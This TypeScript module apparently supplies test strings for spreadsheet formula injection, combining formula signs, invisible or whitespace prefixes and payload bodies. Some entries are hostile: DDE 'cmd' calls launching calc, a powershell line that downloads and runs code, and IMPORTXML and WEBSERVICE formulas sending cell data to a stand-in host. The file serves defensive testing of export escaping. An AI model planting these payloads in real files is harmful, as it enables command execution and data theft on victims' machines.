/** Signs a spreadsheet takes for the start of a formula, plain and full-width. */
const SIGNS = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20'];
/** What may stand before one and be trimmed away. */
const BEFORE = ['', ' ', '\t', '\r', '\n', '\0', '\u00a0', '\ufeff', '\u200b', '  \t\u200e', '\u2003'];
/** What an attacker writes behind it. */
const BODIES = ['1+1', 'cmd|"/c calc"!A1', 'HYPERLINK("http://x","y"),\n=2\''];

const SINGLE = [
  '=SUM(A1:A9)',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|/C calc!A0',
  '=IMPORTXML(CONCAT("http://x/?v=",A2),"//a")',
  '=WEBSERVICE("http://x")',
  '+cmd|/C powershell IEX(wget x)!A',
  '"=1+1"',
  '","=1+1',
  '"\n=1+1',
  'x;=1+1',
  'x\t=1+1',
  ';=1+1;',
  '\t=1+1\t',
  'x|=1+1',
  "'=1+1",
  "''=1+1",
  '=\u200b1+1',
  '\u202e=1+1',
  '=1+1\0tail',
  '\0\0=1+1',
  '=DDE("cmd";"/C calc";"x")',
  '={1;2}',
  '=0x1',
  '-1e5=2',
  '+A1',
  '-A1',
];

/** Strings that a spreadsheet might run where they stand in a cell. */
export const FORMULA_STRINGS: readonly string[] = [
  ...SIGNS.flatMap((sign) => BEFORE.flatMap((before) => BODIES.map((body) => before + sign + body))),
  ...SINGLE,
];
